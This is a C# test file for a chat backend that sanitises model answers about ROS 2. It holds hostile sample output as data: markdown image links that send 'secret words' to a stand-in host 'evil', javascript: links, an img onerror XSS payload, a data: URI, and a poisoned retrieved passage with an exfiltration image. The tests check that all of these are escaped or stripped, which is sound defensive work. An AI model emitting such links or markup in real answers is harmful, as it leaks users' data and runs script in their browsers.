using ChatBackend.Infrastructure.Search;
using Microsoft.Extensions.DependencyInjection;

namespace ChatBackend.Tests.Features.Chat;

public sealed class SafeAnswerTests(ChatApp app) : IClassFixture<ChatApp>
{
    private const string Question = "How do two ROS 2 nodes talk to each other?";

    private const string Hostile =
        "Over topics![1] ![x](http://evil/?q=secret words) ![y](<http://evil/?q=secret words>) [click here](javascript:alert(1)) [ok](/docs/ros2)\n" +
        "<img src=x onerror=alert(1)> List<int> `vector<int>` ![z][r]\n\n```cpp\nvector<int> v;\n```\n\n[r]: data:text/html,x";

    private const string Shown =
        "Over topics! [1] !&#91;x]&#40;http://evil/?q=secret words) y click here [ok](/docs/ros2)\n" +
        "&lt;img src=x onerror=alert(1)> List&lt;int> `vector<int>` z\n\n```cpp\nvector<int> v;\n```\n\n[r]&#58; data:text/html,x";

    [Fact]
    public async Task An_answer_has_no_image_tag_or_foreign_link_in_JSON_and_in_the_session()
    {
        app.Model.Answer(Hostile);

        var answer = await app.AnswerAsync(new { message = Question });

        Assert.Equal(Shown, answer.GetProperty("response").GetString());
        Assert.Equal(1, answer.GetProperty("citations").GetArrayLength());
        var messages = await (await app.Client.GetAsync($"/chat/sessions/{answer.GetProperty("session_id").GetGuid()}/messages")).JsonAsync();
        Assert.Contains(messages.GetProperty("items").EnumerateArray(), m => m.GetProperty("content").GetString() == Shown);
    }

    [Fact]
    public async Task An_answer_has_no_image_tag_or_foreign_link_in_the_stream()
    {
        app.Model.Answer(Hostile);
        using var response = await app.AskAsync(new { message = Question }, accept: "text/event-stream");
        using var stream = new EventStream(response);

        var events = await stream.AllAsync();

        Assert.Equal(Shown, EventStream.Text(events));
        Assert.Equal(Shown, events[^1].Data.GetProperty("response").GetString());
    }

    [Fact]
    public async Task Text_that_was_held_back_is_shown_when_the_model_stops_early()
    {
        app.Model.TruncateAfter("Over topics [1]. See [the site](javascript:alert(1");

        var answer = await app.AnswerAsync(new { message = Question });

        Assert.Equal("Over topics [1]. See [the site]&#40;javascript:alert(1", answer.GetProperty("response").GetString());
        Assert.True(answer.GetProperty("incomplete").GetBoolean());
    }

    [Fact]
    public async Task The_offline_model_quotes_a_passage_with_HTML_in_it_as_text()
    {
        await using var offline = new ChatApp { ["AI_PROVIDER"] = "offline" };
        await offline.InitializeAsync();
        await offline.Services.GetRequiredService<IPassageIndex>().ReplaceAsync(
            new("xylem.md", "Xylem", "/docs/xylem", "hash", [new Chunk(0, ["Xylem"], "xylem", "The xylem gripper reads &lt;img src=x onerror=alert(1)&gt; and `List<int>` from ![its map](http://evil/).")]),
            default);

        var answer = await offline.AnswerAsync(new { message = "What does the xylem gripper read?" });

        var text = answer.GetProperty("response").GetString();
        Assert.Contains("The xylem gripper reads &lt;img src=x onerror=alert(1)> and `List<int>`", text);
        Assert.DoesNotContain("http://evil/", text);
    }
}
